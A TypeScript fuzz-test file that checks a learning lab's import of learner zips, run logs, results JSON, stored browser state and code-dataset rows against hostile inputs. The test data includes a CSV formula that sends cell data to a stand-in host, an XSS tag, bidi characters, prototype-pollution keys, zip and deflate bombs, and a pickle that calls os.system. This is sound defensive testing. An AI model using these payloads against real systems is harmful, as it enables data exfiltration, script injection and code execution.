/** What somebody else gives to be looked at: files of learners, logs and results to compare, and what a browser remembered. */
import { deflateRawSync, deflateSync } from 'node:zlib';
import { codeFactsOf, codeProblemOf } from '../../src/data/code/rows';
import { zipBlob } from '../../src/data/zip';
import { draw } from '../../src/report/chart';
import { reportCharts } from '../../src/report/charts';
import { curvesCsv, resultsCsv } from '../../src/report/csv';
import { evaluationTables } from '../../src/report/evaluation-tables';
import { reportHtml } from '../../src/report/html';
import { loadedEvaluation } from '../../src/report/loaded-evaluation';
import { givenRun, type LoadedRun } from '../../src/report/loaded-run';
import { reportOf } from '../../src/report/model';
import { svgFile } from '../../src/report/shape';
import { storedLearnt } from '../../src/ui/learn/answers';
import { taskIn } from '../../src/ui/learn/class/class-task';
import { csvOf, newestOf, readHandedIn, scoreOf } from '../../src/ui/learn/class/handed-in';
import { storedQueue } from '../../src/ui/queue/queue';
import { attempts } from '../faults/attempts';
import { fakeRunEvents } from '../report/fake-runs';
import { check } from './fuzzing';
import { type Expected, Rows } from './refusals';
import { DATASET, ESTIMATE, OWN } from './seeds';

type Bytes = Uint8Array<ArrayBuffer>;
const encoded = (text: string): Bytes => new TextEncoder().encode(text);
const json = (value: unknown): Bytes => encoded(JSON.stringify(value));
const deep = (n: number): string => `${'['.repeat(n)}${']'.repeat(n)}`;
const FORMULA = '=HYPERLINK("http://x.example/?"&A1,"1")';
const BIDI = '\u202e\u2066abc\u0000\u001b[2J';
const TAG = '"><script>alert(1)</script><img src=x onerror=alert(1)>';

/** A row of CSV as a spreadsheet reads it. */
const cellsOf = (row: string): string[] => [...`${row},`.matchAll(/("(?:[^"]|"")*"|[^,]*),/g)].map(([, cell]) => cell);

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
const NOT_SHOWN = /[\u0000-\u0008\u001b\u202a-\u202e\u2066-\u2069]/;

/** No cell is a formula, and every row has as many as the first. */
function checkCsv(csv: string): void {
  const rows = csv.trimEnd().split('\r\n');
  for (const row of rows) {
    const cells = cellsOf(row);
    check(cells.length === cellsOf(rows[0]).length, `a row of ${cells.length} cells: ${row.slice(0, 200)}`);
    check(!NOT_SHOWN.test(row), 'characters that do not show');
    for (const cell of cells) check(!/^["']?[=+@\t]|^-(?!\d)/.test(cell), `the cell ${cell.slice(0, 80)}`);
  }
}

/** Markup is the page's own. */
function checkHtml(html: string): void {
  check(!/<script|<img|onerror=alert\(1\)>/i.test(html), 'markup of a stranger');
  check(!NOT_SHOWN.test(html), 'characters that do not show');
}

/** A run as everything that shows one shows it. */
function show(run: LoadedRun | null): void {
  if (!run) return;
  const model = reportOf([run, { ...run, name: 'other' }]);
  checkCsv(curvesCsv(model));
  checkCsv(resultsCsv(model));
  checkHtml(reportHtml(model, { title: 'x' }));
  for (const chart of reportCharts(model)) {
    const shape = draw(chart);
    if (shape) checkHtml(svgFile(shape));
  }
}

const handed = new Rows('handed in');
const AT = '2026-01-01T10:00:00.000Z';
const ANSWERS = {
  ...{ version: 1, learner: 'Ada', at: AT },
  task: { name: '10b', chapters: ['write', 'gate'], query: 'arm=grpo' },
  learnt: { version: 1, visited: [], answers: {} },
};
/** A run's log whose beginning is changed. */
const logOf = (config: object, more: object = {}): Bytes =>
  encoded(
    fakeRunEvents({ takesOff: 60, steps: 40 })
      .map((event) => (event.type === 'start' ? { ...event, config: { ...event.config, ...config }, ...more } : event))
      .map((event) => `${JSON.stringify(event)}\n`)
      .join(''),
  );
const fileOf = async (files: Record<string, Bytes>): Promise<File> =>
  new File([await zipBlob(Object.entries(files).map(([name, bytes]) => ({ name, bytes })))], 'ada.zip');
const readFile = async (files: Record<string, Bytes>): Promise<void> => {
  const read = await readHandedIn(await fileOf(files));
  checkCsv(csvOf(newestOf([read, read])));
  scoreOf(read.answers);
  show(read.run);
  check(!/[\p{Cc}\p{Cf}]/u.test(read.answers.learner), 'a name with characters that do not show');
};
const answersOf = (own: object): Record<string, Bytes> => ({ 'answers.json': json({ ...ANSWERS, ...own }) });
const HANDED: Record<string, [files: () => Record<string, Bytes>, message: Expected]> = {
  'no answers': [() => ({ x: encoded('1') }), /has no answers\.json/],
  'answers in a folder': [() => ({ 'a/answers.json': json(ANSWERS) }), /has no answers\.json/],
  'answers above their bound': [() => ({ 'answers.json': new Uint8Array(65_537) }), /65\.5 kB/],
  'answers that are no text': [() => ({ 'answers.json': new Uint8Array([0xff, 0xfe]) }), /no UTF-8/],
  'answers that are deep': [() => ({ 'answers.json': encoded(deep(30_000)) }), /nested more than 128/],
  'answers that are null': [() => ({ 'answers.json': encoded('null') }), /not as the lab writes/],
  'answers of the prototype': [() => ({ 'answers.json': encoded('{"__proto__": {"version": 1}}') }), /not as the lab/],
  'a learner of no letter that shows': [() => answersOf({ learner: BIDI.slice(0, 2) }), /not as the lab/],
  'a learner who turns the line': [() => answersOf({ learner: BIDI }), null],
  'a learner who is a formula': [() => answersOf({ learner: FORMULA }), null],
  'a learner who is markup': [() => answersOf({ learner: TAG.slice(0, 50) }), null],
  'a class that is a formula': [() => answersOf({ task: { ...ANSWERS.task, name: '@SUM(1)' } }), null],
  'a date that is a formula': [() => answersOf({ at: FORMULA }), /not as the lab/],
  'a chapter that is none': [() => answersOf({ task: { ...ANSWERS.task, chapters: ['__proto__'] } }), /not as the lab/],
  'settings of 2,001 characters': [
    () => answersOf({ task: { ...ANSWERS.task, query: 'x'.repeat(2001) } }),
    /not as the lab/,
  ],
  'answers of a chapter called constructor': [
    () =>
      answersOf({
        learnt: { ...ANSWERS.learnt, answers: { constructor: { given: 'x', right: true, tries: 1, at: AT } } },
      }),
    null,
  ],
  'a log above its bound': [
    () => ({ ...answersOf({}), 'run/events.jsonl': new Uint8Array(65 * 2 ** 20) }),
    /The log has 68\.2 MB/,
  ],
  'a log of nothing': [() => ({ ...answersOf({}), 'run/events.jsonl': new Uint8Array(0) }), null],
  'a log of zeros': [() => ({ ...answersOf({}), 'run/events.jsonl': new Uint8Array(1e6) }), null],
  'a log that is torn': [() => ({ ...answersOf({}), 'run/events.jsonl': logOf({}).slice(0, -7) }), null],
  'two logs': [() => ({ ...answersOf({}), 'a/events.jsonl': logOf({}), 'b/events.jsonl': logOf({}) }), null],
  'a run called as a formula': [() => ({ ...answersOf({}), '=1+1/events.jsonl': logOf({}) }), null],
};
for (const [id, [files, message]] of Object.entries(HANDED))
  handed.add(id, `a file with ${id}`, message, () => readFile(files()));
handed.add(
  'a log of line ends',
  'a log of 64 MiB of line ends, 64 kB as it is handed in',
  /more than the 4194304 lines/,
  () => readFile({ ...answersOf({}), 'run/events.jsonl': new Uint8Array(2 ** 26).fill(10) }),
  false,
);
handed.add('a bomb', 'a log of a gigabyte in a megabyte', /unpacks to|archive/, async () => {
  const packed = deflateRawSync(new Uint8Array(2 ** 27), { level: 9 });
  const whole = new Uint8Array(
    await (await fileOf({ ...answersOf({}), 'run/events.jsonl': new Uint8Array(8) })).arrayBuffer(),
  );
  await readHandedIn(new File([whole.slice(0, 60), packed, whole.slice(60)], 'ada.zip'));
});

const logs = new Rows('logs to compare');
/** Settings as no run has them. */
const SETTINGS: Record<string, object> = {
  'an arm that is a formula': { arm: FORMULA },
  'an arm that is markup': { arm: TAG },
  'an arm that turns the line': { arm: BIDI },
  'an arm called __proto__': { arm: '__proto__' },
  'an arm that is a number': { arm: 7 },
  'a seed that is a formula': { seed: FORMULA },
  'a seed that is nothing': { seed: null },
  'a seed of many digits': { seed: 1e308 },
  'a seed below nothing': { seed: -5 },
  'steps that are a text': { steps: TAG },
  'steps without end': { steps: 1e308 },
  'an evaluation every nothing': { evalEvery: 0.001 },
  'a group of a text': { group: FORMULA, problems: '@x' },
  'a model that is markup': { model: TAG },
  'a task with a cursor': { task: BIDI },
  'a wording of a million letters': { wording: 'x'.repeat(1e6) },
  'a setting that there is not': { [FORMULA]: TAG, constructor: 1, hasOwnProperty: 2 },
};
for (const [id, config] of Object.entries(SETTINGS))
  logs.add(id, `a log whose settings have ${id}`, null, async () => {
    const bytes = logOf(config);
    show(
      await givenRun('x', {
        size: bytes.length,
        stream: async function* () {
          yield bytes;
        },
      }),
    );
    await readFile({ ...answersOf({}), 'run/events.jsonl': bytes });
  });
const LINES: Record<string, (event: Record<string, unknown>) => object> = {
  'devices that are markup': (e) =>
    e.type === 'start' ? { ...e, device: { ...(e.device as object), name: TAG, variants: { [TAG]: TAG } } } : e,
  'a version of the lab that is markup': (e) => (e.type === 'start' ? { ...e, lab: TAG + FORMULA } : e),
  'rewards that are nothing': (e) => (e.type === 'step' ? { ...e, reward: null, tokens: null, seconds: null } : e),
  'steps that count down': (e) => (e.type === 'step' ? { ...e, step: 41 - (e.step as number) } : e),
  'one step over and over': (e) => (e.type === 'step' ? { ...e, step: 1 } : e),
  'steps of 10³⁰⁸': (e) => (e.type === 'step' ? { ...e, step: 1e308, tokens: 1e308, seconds: 1e308 } : e),
  'steps below nothing': (e) => (e.type === 'step' ? { ...e, step: -3, tokens: -1e9, seconds: -1 } : e),
  'accuracies of a text': (e) => (e.type === 'eval' ? { ...e, accuracy: TAG } : e),
  'accuracies of nothing': (e) => (e.type === 'eval' ? { ...e, accuracy: null, passAtK: null, meanLength: null } : e),
  'evaluations of no problem': (e) => (e.type === 'eval-samples' ? { ...e, problems: [] } : e),
  'problems without a sample': (e) =>
    e.type === 'eval-samples'
      ? { ...e, problems: [{ problem: TAG, question: BIDI, answer: FORMULA, samples: [] }] }
      : e,
  'rewards of 10³⁰⁸': (e) =>
    e.type === 'eval-samples'
      ? {
          ...e,
          problems: [{ problem: 'x', question: '', answer: '', samples: [{ ids: [], answer: TAG, reward: 1e308 }] }],
        }
      : e,
  'a table of tokens that is markup': (e) =>
    e.type === 'tokens-table'
      ? { ...e, rows: [{ token: TAG + BIDI + FORMULA, count: 1, meanU: null, meanTerm: -1, share: 2 }] }
      : e,
  'an end before the beginning': (e) =>
    e.type === 'start' ? { v: 1, type: 'done', step: 0, reason: 'finished', seconds: 1 } : e,
};
for (const [id, change] of Object.entries(LINES))
  logs.add(id, `a log with ${id}`, null, async () => {
    const text = new TextDecoder().decode(logOf({}));
    const lines = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.stringify(change(JSON.parse(line))));
    const bytes = encoded(`${lines.join('\n')}\n`);
    show(
      await givenRun('x', {
        size: bytes.length,
        stream: async function* () {
          yield bytes;
        },
      }),
    );
    await readFile({ ...answersOf({}), 'run/events.jsonl': bytes });
  });
logs.add('above its bound', 'a log of more than a gigabyte', /The log has 1\.07 GB/, () =>
  givenRun('x', {
    size: 2 ** 30 + 1,
    stream: () => {
      throw new Error('it is read all the same');
    },
  }),
);

const results = new Rows('results to compare');
const evaluation = (own: object = {}, dataset: object = {}): Bytes =>
  json({ model_name: 'm', antisd_lab: { ...OWN, datasets: { x: { ...DATASET, ...dataset } }, ...own } });
const RESULTS: Record<string, [bytes: () => Bytes, message: Expected]> = {
  nothing: [() => encoded(''), /no JSON/],
  null: [() => encoded('null'), /no results of an evaluation/],
  'another program’s': [() => json({ model_name: 'm', results: {} }), /no results of an evaluation/],
  deep: [() => encoded(`{"model_name": ${deep(200)}}`), /nested more than 128/],
  'five million values': [() => encoded(`[${'0,'.repeat(5e6)}0]`), /values/],
  'above the bound': [() => new Uint8Array(64 * 2 ** 20 + 1), /67\.1 MB/],
  'a model that is markup': [() => json({ model_name: TAG + BIDI, antisd_lab: OWN }), null],
  'datasets that are markup': [
    () => evaluation({ datasets: { [TAG]: { ...DATASET, name: TAG, leftOut: TAG } } }),
    null,
  ],
  'a dataset called __proto__': [
    () =>
      encoded(
        `{"model_name":"m","antisd_lab":${JSON.stringify({ ...OWN, datasets: { q: DATASET } }).replace('"q":', '"__proto__":')}}`,
      ),
    null,
  ],
  'no dataset': [() => evaluation({ datasets: {} }), null],
  'no problem': [() => evaluation({}, { problems: [] }), null],
  'an estimate of nothing': [() => evaluation({}, { avg: { value: null, low: null, high: null } }), /no results/],
  'an estimate of 10³⁰⁸': [() => evaluation({}, { avg: { value: 1e308, low: -1e308, high: 1e308 } }), null],
  'k of a half': [
    () =>
      evaluation(
        {},
        {
          pass: [
            { k: 0.5, ...ESTIMATE },
            { k: -1, ...ESTIMATE },
          ],
        },
      ),
    null,
  ],
  '100,000 k': [() => evaluation({}, { pass: Array.from({ length: 1e5 }, (_, k) => ({ k, ...ESTIMATE })) }), null],
  'a problem twice': [() => evaluation({}, { problems: [DATASET.problems[0], DATASET.problems[0]] }), null],
  'problems that are formulas': [
    () => evaluation({}, { problems: [{ ...DATASET.problems[0], problem: FORMULA + TAG + BIDI }] }),
    null,
  ],
  'problems that are in the training data, markup': [
    () => evaluation({}, { overlap: { n: 1, with: TAG, problems: [{ problem: TAG, with: BIDI, share: 9 }] } }),
    null,
  ],
  'no sample at all': [() => evaluation({ settings: { ...OWN.settings, samples: 0 } }, { samples: 0 }), null],
};
for (const [id, [bytes, message]] of Object.entries(RESULTS))
  results.add(id, `results.json with ${id}`, message, () => {
    const read = loadedEvaluation('x', bytes());
    const both = [read, { ...read, name: 'other' }];
    evaluationTables(both);
    checkHtml(reportHtml(reportOf([], {}, both), { title: 'x' }));
  });

const kept = new Rows('remembered by the browser');
const TEXTS: Record<string, string> = {
  nothing: '',
  null: 'null',
  'a number': '7',
  'half of it': '{"name":"x","cells":[{"id":',
  deep: deep(1e5),
  'the prototype': '{"__proto__":{"cells":[]},"name":"x"}',
  'other types': '{"name":[],"cells":{},"leftOut":"x","visited":{},"answers":[]}',
  'a state that is none':
    '{"name":"x","leftOut":0,"cells":[{"id":"a","query":"","state":"__proto__","run":null,"why":null}]}',
  'settings that are none': `{"name":"${TAG.replaceAll('"', '')}","leftOut":1e308,"cells":[{"id":"../..","query":"x=1&__proto__=2","state":"running","run":"../x","why":null}]}`,
  'answers by the prototype': '{"version":1,"visited":["__proto__"],"answers":{"__proto__":{"given":"x"}}}',
};
for (const [id, text] of Object.entries(TEXTS))
  kept.add(id, `a queue and answers of ${id}`, null, () => {
    const queue = storedQueue(text);
    check(queue === null || queue.cells.every(({ state }) => state !== 'running'), 'a run that nobody makes goes on');
    const learnt = storedLearnt(text);
    check(!Object.hasOwn(learnt.answers, '__proto__'), 'the prototype was learnt');
    taskIn({ search: `?${text.slice(0, 3000)}`, hash: `#learn?class=${text}&ask=${text}` });
  });

const code = new Rows('rows of code');
const packed = (bytes: Uint8Array): string => Buffer.from(deflateSync(bytes)).toString('base64');
/** A pickle of a text that says it has `length` bytes. */
const pickle = (kind: number, length: number[], text: string): Uint8Array =>
  new Uint8Array([0x80, 4, kind, ...length, ...encoded(text)]);
const ROW = { question_content: 'q', public_test_cases: '[]', private_test_cases: '[]', metadata: '{}' };
const ASSERTS = { prompt: 'q', ground_truth: ['assert f(1) == 1'], dataset: 'code' };
const BAD = /tests|test|no row|missing|no JSON|nested|values|unpacked|question/;
const CODE: Record<string, [fields: () => Record<string, unknown>, message: Expected]> = {
  'no test': [() => ROW, /no test/],
  'tests that are deep': [() => ({ ...ROW, public_test_cases: deep(1e5) }), /nested more than 128/],
  'tests of five million values': [() => ({ ...ROW, public_test_cases: `[${'0,'.repeat(5e6)}0]` }), /values/],
  'tests of another kind': [() => ({ ...ROW, public_test_cases: '[{"input": 1, "output": []}]' }), /no list of inputs/],
  'packed tests that are no base64': [() => ({ ...ROW, private_test_cases: '%%%' }), /cannot be unpacked/],
  'packed tests that are no zlib': [() => ({ ...ROW, private_test_cases: 'AAAA' }), /cannot be unpacked/],
  'packed tests that are a bomb': [
    () => ({ ...ROW, private_test_cases: packed(new Uint8Array(2 ** 27)) }),
    /more than/,
  ],
  'a pickle that calls': [
    () => ({ ...ROW, private_test_cases: packed(encoded('cos\nsystem\n(S"true"\ntR.')) }),
    /pickle of/,
  ],
  'a pickle of nothing': [() => ({ ...ROW, private_test_cases: packed(new Uint8Array(0)) }), BAD],
  'a pickle that is longer than it is': [
    () => ({ ...ROW, private_test_cases: packed(pickle(0x58, [255, 255, 255, 255], '[]')) }),
    /cut off/,
  ],
  'a pickle of 2⁶⁴ bytes': [
    () => ({ ...ROW, private_test_cases: packed(pickle(0x8d, [255, 255, 255, 255, 255, 255, 255, 255], '[]')) }),
    /cut off|unpacked/,
  ],
  'a pickle that ends in its length': [() => ({ ...ROW, private_test_cases: packed(pickle(0x58, [1], '')) }), BAD],
  'metadata that is deep': [
    () => ({ ...ROW, public_test_cases: '[{"input": "1", "output": "1"}]', metadata: deep(1e5) }),
    /nested more than 128/,
  ],
  'asserts in a text that is deep': [() => ({ ...ASSERTS, ground_truth: deep(1e5) }), null],
  'asserts in half a text': [() => ({ ...ASSERTS, ground_truth: '["assert f(1)' }), null],
  'asserts that are numbers': [() => ({ ...ASSERTS, ground_truth: [1, 2] }), null],
};
for (const [id, [fields, message]] of Object.entries(CODE))
  code.add(id, `a row with ${id}`, message, async () => {
    const problem = await codeProblemOf({ fields: fields(), where: 'x.jsonl, line 1' }, 'x');
    if (problem) codeFactsOf(problem);
  });

attempts([handed, logs, results, kept, code].flatMap(({ list }) => list));
